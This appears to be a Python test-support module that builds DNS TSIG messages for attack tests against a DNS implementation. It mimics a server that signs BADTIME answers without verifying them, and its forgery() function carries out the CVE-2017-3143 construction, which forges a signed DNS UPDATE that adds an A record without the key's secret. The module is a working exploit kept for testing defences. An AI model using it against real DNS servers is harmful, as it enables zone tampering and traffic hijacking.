"""TSIG on the wire for attack tests, written apart from homing.dns.tsig so the two can
disagree: MAC inputs (RFC 8945 4.3.3), records cut and spliced, and the forged-UPDATE
construction of CVE-2017-3143 (a signed error answer turned into a valid MAC)."""

from __future__ import annotations

import hmac
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass

import dns.message
import dns.name
import dns.rcode
import dns.rdataclass
import dns.rdatatype
import dns.rdtypes.ANY.TSIG
import dns.tsig
import dns.update

_HASHES = {dns.tsig.HMAC_SHA256: "sha256", dns.tsig.HMAC_SHA512: "sha512"}


def hmac_of(key: dns.tsig.Key, data: bytes) -> bytes:
    return hmac.new(key.secret, data, _HASHES[key.algorithm]).digest()


def prefixed(data: bytes) -> bytes:
    return len(data).to_bytes(2, "big") + data


def split_tsig(wire: bytes) -> tuple[bytes, dns.name.Name, dns.rdtypes.ANY.TSIG.TSIG]:
    """The message without its TSIG record (additional count one less), the owner, the rdata."""
    message = dns.message.from_wire(wire, keyring=False)
    assert message.tsig is not None
    owner, rdata = message.tsig.name, message.tsig[0]
    assert isinstance(rdata, dns.rdtypes.ANY.TSIG.TSIG)
    body = rdata.to_wire()
    name = owner.to_wire()
    assert body is not None and name is not None
    tail = name + struct.pack("!HHIH", 250, 255, 0, len(body)) + body
    assert wire.endswith(tail)  # uncompressed in every message built here
    head = wire[: -len(tail)]
    arcount = struct.unpack_from("!H", head, 10)[0] - 1
    return head[:10] + struct.pack("!H", arcount) + head[12:], owner, rdata


def variables(owner: dns.name.Name, rdata: dns.rdtypes.ANY.TSIG.TSIG) -> bytes:
    t = rdata.time_signed
    return (
        owner.to_digestable()
        + struct.pack("!HI", 255, 0)
        + rdata.algorithm.to_digestable()
        + struct.pack("!HIH", t >> 32, t & 0xFFFFFFFF, rdata.fudge)
        + struct.pack("!HH", rdata.error, len(rdata.other))
        + rdata.other
    )


def digest_input(wire: bytes) -> bytes:
    """What a signed message's MAC covers, without a request MAC."""
    head, owner, rdata = split_tsig(wire)
    return struct.pack("!H", rdata.original_id) + head[2:] + variables(owner, rdata)


def with_tsig(head: bytes, owner: dns.name.Name, rdata: dns.rdtypes.ANY.TSIG.TSIG) -> bytes:
    body = rdata.to_wire()
    name = owner.to_wire()
    assert body is not None and name is not None
    record = name + struct.pack("!HHIH", 250, 255, 0, len(body)) + body
    arcount = struct.unpack_from("!H", head, 10)[0] + 1
    return head[:10] + struct.pack("!H", arcount) + head[12:] + record


def replaced(rdata: dns.rdtypes.ANY.TSIG.TSIG, **changes: object) -> dns.rdtypes.ANY.TSIG.TSIG:
    new = rdata.replace(**changes)
    assert isinstance(new, dns.rdtypes.ANY.TSIG.TSIG)
    return new


def with_mac(wire: bytes, mac: bytes, **changes: object) -> bytes:
    """The same message with another MAC (and other TSIG fields changed), not re-signed."""
    head, owner, rdata = split_tsig(wire)
    return with_tsig(head, owner, replaced(rdata, mac=mac, **changes))


def signing_oracle(request: bytes, key: dns.tsig.Key) -> bytes:
    """What a server answers when it signs BADTIME over the request's MAC unverified."""
    query = dns.message.from_wire(request, keyring=False)
    assert query.tsig is not None
    rdata = query.tsig[0]
    assert isinstance(rdata, dns.rdtypes.ANY.TSIG.TSIG)
    response = dns.message.make_response(query)
    response.set_rcode(dns.rcode.Rcode.NOTAUTH)
    now = int(time.time())
    response.use_tsig(
        key,
        original_id=rdata.original_id,
        tsig_error=dns.rcode.Rcode.BADTIME,
        other_data=struct.pack("!HI", now >> 32, now & 0xFFFFFFFF),
        fudge=rdata.fudge,
    )
    response.request_mac = rdata.mac
    return response.to_wire()


@dataclass(frozen=True)
class Forgery:
    """The request that asks for a MAC, and how the forged UPDATE is finished from the
    answer. `request`'s "MAC" is the start of the forged UPDATE (its sections and the
    fixed part of its TSIG variables), its time an hour off; a server that signs its
    BADTIME answer over that MAC signs exactly what the forged UPDATE's MAC covers, with
    the answer's own bytes as the forged TSIG's other data."""

    request: bytes
    finish: Callable[[bytes], bytes]


def forgery(
    key_name: str, algorithm: dns.name.Name, zone: str, owner: str, address: str
) -> Forgery:
    """Forge `owner A address` in `zone` knowing only the key's name and algorithm."""
    keyname = dns.name.from_text(key_name)
    update = dns.update.UpdateMessage(zone)
    update.add(dns.name.from_text(owner), 60, "A", address)
    forged_head = update.to_wire()  # no TSIG yet: additional count 0
    signed_at = int(time.time())
    # The answer's bytes after the request MAC: its original ID, header and question
    # (the request's zone), then its TSIG variables with a 6-byte other data.
    question = dns.name.from_text(zone).to_wire()
    assert question is not None
    answer_variables = len(keyname.to_digestable()) + 6 + len(algorithm.to_digestable()) + 18
    tail_length = 2 + 10 + len(question) + 4 + answer_variables
    forged_variables = (
        keyname.to_digestable()
        + struct.pack("!HI", 255, 0)
        + algorithm.to_digestable()
        + struct.pack("!HIH", 0, signed_at, 300)
        + struct.pack("!HH", 0, tail_length)
    )
    chosen_mac = forged_head[2:] + forged_variables
    ask = dns.update.UpdateMessage(zone)
    ask.use_tsig(dns.tsig.Key(keyname, b"\0" * 32, algorithm))  # any secret: the MAC goes
    head, _, rdata = split_tsig(ask.to_wire())
    request = with_tsig(
        head,
        keyname,
        replaced(rdata, time_signed=signed_at - 3600, mac=chosen_mac, original_id=ask.id),
    )

    def finish(answer: bytes) -> bytes:
        _, _, answered = split_tsig(answer)
        forged = dns.rdtypes.ANY.TSIG.TSIG(
            dns.rdataclass.ANY,
            dns.rdatatype.TSIG,
            algorithm,
            signed_at,
            300,
            answered.mac,
            len(chosen_mac),
            0,
            digest_input(answer),  # of the expected length when the answer is the oracle's
        )
        return with_tsig(forged_head, keyname, forged)

    return Forgery(request, finish)
